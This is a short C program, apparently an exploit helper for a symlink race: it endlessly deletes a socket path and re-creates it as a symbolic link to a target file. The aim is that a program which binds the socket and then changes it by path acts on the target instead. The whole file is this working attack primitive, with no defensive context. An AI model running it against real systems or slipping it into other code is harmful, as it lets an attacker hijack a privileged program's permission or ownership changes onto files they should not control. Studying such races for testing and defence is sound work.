/* flip SOCKET TARGET: creates and removes a symbolic link to another file at the path of a socket, as fast as it can, until
   it is killed: a program that binds the socket and then changes it by its path meets the link in between. */
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc != 3) return 2;
    for (;;) {
        unlink(argv[1]);
        symlink(argv[2], argv[1]);
    }
}
